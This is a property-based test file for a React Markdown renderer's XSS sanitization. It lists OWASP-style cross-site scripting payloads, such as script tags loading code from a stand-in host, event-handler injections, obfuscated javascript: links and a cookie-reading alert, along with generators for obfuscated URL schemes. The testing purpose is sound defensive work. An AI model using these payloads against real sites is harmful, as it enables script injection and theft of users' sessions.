import { render } from '@testing-library/react';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

// The same inputs on every machine, so that a failure can be repeated.
fc.configureGlobal({ seed: 20261121 });

const ELEMENTS =
  /^(a|blockquote|br|code|del|details|div|em|h[2-6]|hr|li|mark|ol|p|pre|section|span|strong|summary|sup|table|tbody|td|th|thead|tr|ul|svg|path|rect|circle|line|polyline)$/;
const ATTRIBUTES =
  /^(class|href|open|rel|target|id|start|scope|style|role|tabindex|translate|aria-(label|hidden|selected)|xmlns|width|height|viewBox|fill|stroke|stroke-(width|linecap|linejoin)|d|x|y|rx|ry|cx|cy|r|x1|x2|y1|y2|points)$/;
const STYLE = /^color: var\(--ui-code-[a-z]+\);$/;
const HREF = /^(https?:\/\/|mailto:[^?]+$|#[\w-]+-fn)/;

/** What must not be in what a text became, as a list of sentences. */
function violations(text: string): string[] {
  const { container, unmount } = render(<Markdown text={text} headingLevel={2} />);
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    if (!ELEMENTS.test(element.localName)) found.push(`element ${element.localName}`);
    if (element.namespaceURI?.endsWith('svg') && !element.closest('svg.lucide'))
      found.push('an icon not ours');
    for (const { name, value } of element.attributes) {
      // Our own words, about a character that nobody sees.
      if (name === 'title' && element.localName === 'mark') continue;
      if (!ATTRIBUTES.test(name)) found.push(`attribute ${name}`);
      if (name === 'href' && !HREF.test(value)) found.push(`address ${value}`);
      if (name === 'style' && !STYLE.test(value)) found.push(`style ${value}`);
    }
  }
  unmount();
  return found;
}

// From the XSS filter evasion cheat sheet of OWASP, and its kind for Markdown.
test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/x.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<iframe src=http://xss.example/scriptlet.html <',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD4=">',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zw==" AllowScriptAccess="always"></EMBED>',
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</form>',
  '[a](javascript:alert(1))',
  '[a](javascript://example.org%0Aalert(1))',
  '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[a](java\\\nscript:alert(1))',
  '[a](j\u0000avascript:alert(1))',
  '[a](\u00a0javascript:alert(1))',
  '[a](javascript\uff1aalert(1))',
  '[a](https://example.org "onclick=alert(1)")',
  '[a](https://example.org" onclick="alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![a](javascript:alert(1))',
  '![a"onerror="alert(1)](x)',
  '![a](https://example.org/"onload="alert(1))',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  '[a]\n\n[a]: javascript:alert(1)',
  '[^a]\n\n[^a]: [x](javascript:alert(1))',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '```js" onclick="alert(1)\nx\n```',
  '```solidity\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | [a](data:text/html,x) |\n|--|--|\n| <svg onload=x> | ![x](x) |',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} {alert(1)}',
])('FIND-05 %s does nothing', (attack) => {
  expect(violations(attack)).toEqual([]);
});

const SCHEMES = 'javascript: data: vbscript: https:// http:// mailto: // # / blob: ftp:'.split(' ');
const CONTROLS = ['', '\t', '\n', '\u0000', '\u0001', '\u00ad', '\u200b', '\u202e', '\\'];
const INSERTED = [...CONTROLS, '&Tab;', '&NewLine;', '&#0;', '%0a'];

/** An address with its scheme in mixed case, as entities, and with control characters in between. */
const address = fc
  .tuple(
    fc.constantFrom(...SCHEMES),
    fc.array(fc.tuple(fc.constantFrom(...INSERTED), fc.nat(3)), { minLength: 12, maxLength: 12 }),
    fc.string({ maxLength: 10 }),
  )
  .map(([scheme, changes, rest]) => {
    const letters = Array.from(scheme, (letter, index) => {
      const [inserted = '', form = 0] = changes[index] ?? [];
      const forms = [
        letter,
        letter.toUpperCase(),
        `&#${letter.charCodeAt(0)};`,
        `&#x${letter.charCodeAt(0).toString(16)};`,
      ];
      return (form > 1 ? '' : inserted) + (forms[form] ?? letter);
    });
    return letters.join('') + rest;
  });

/** Pieces of Markdown and HTML, divided by spaces here; "_" is a space and "$" a line break. */
const SYNTAX =
  '<details> <details_open> <summary> </summary> </details> <br> #_ >_ -_ 1._ -_[x]_ ** ~~ ` ```sol$ ```$ | |-|-|$ $ $$ ____ [ ] ]( ) ![ [^1] [^1]:_ < > </ <!-- --> <![CDATA[ <? ' +
  '&lt; &#60; <script> <style> <iframe_src= <img_src=x_onerror= <svg_onload= _onclick=" " \' \\ ---$';

const syntax = fc.constantFrom(
  ...SYNTAX.split(' ').map((piece) => piece.replaceAll('_', ' ').replaceAll('$', '\n')),
  '_',
);

const codeUnit = fc.nat(0xffff).map((code) => String.fromCharCode(code));
const text = fc
  .array(
    fc.oneof(
      syntax,
      address,
      fc.string({ unit: codeUnit, maxLength: 8 }),
      address.map((url) => `[x](${url})`),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

test('FIND-05 no text becomes an element, an attribute or an address that is not allowed', () => {
  fc.assert(
    fc.property(text, (value) => {
      expect(violations(value)).toEqual([]);
    }),
    { numRuns: 200 },
  );
});
